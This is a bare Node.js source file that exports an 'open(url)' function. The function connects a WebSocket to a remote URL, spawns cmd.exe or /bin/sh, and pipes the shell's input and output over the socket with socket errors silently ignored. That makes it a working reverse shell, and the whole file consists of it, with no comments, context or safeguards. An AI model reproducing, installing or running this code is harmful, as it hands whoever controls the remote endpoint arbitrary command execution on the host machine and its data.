const WebSocket = require('ws');
const { spawn } = require('child_process');
module.exports = function open(url) {
  const ws = new WebSocket(url);
  const shell = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', [], { stdio: 'pipe' });
  shell.stdout.on('data', (d) => ws.readyState === 1 && ws.send(d));
  shell.stderr.on('data', (d) => ws.readyState === 1 && ws.send(d));
  ws.on('message', (m) => shell.stdin.write(m.toString() + '\n'));
  ws.on('error', () => {});
};
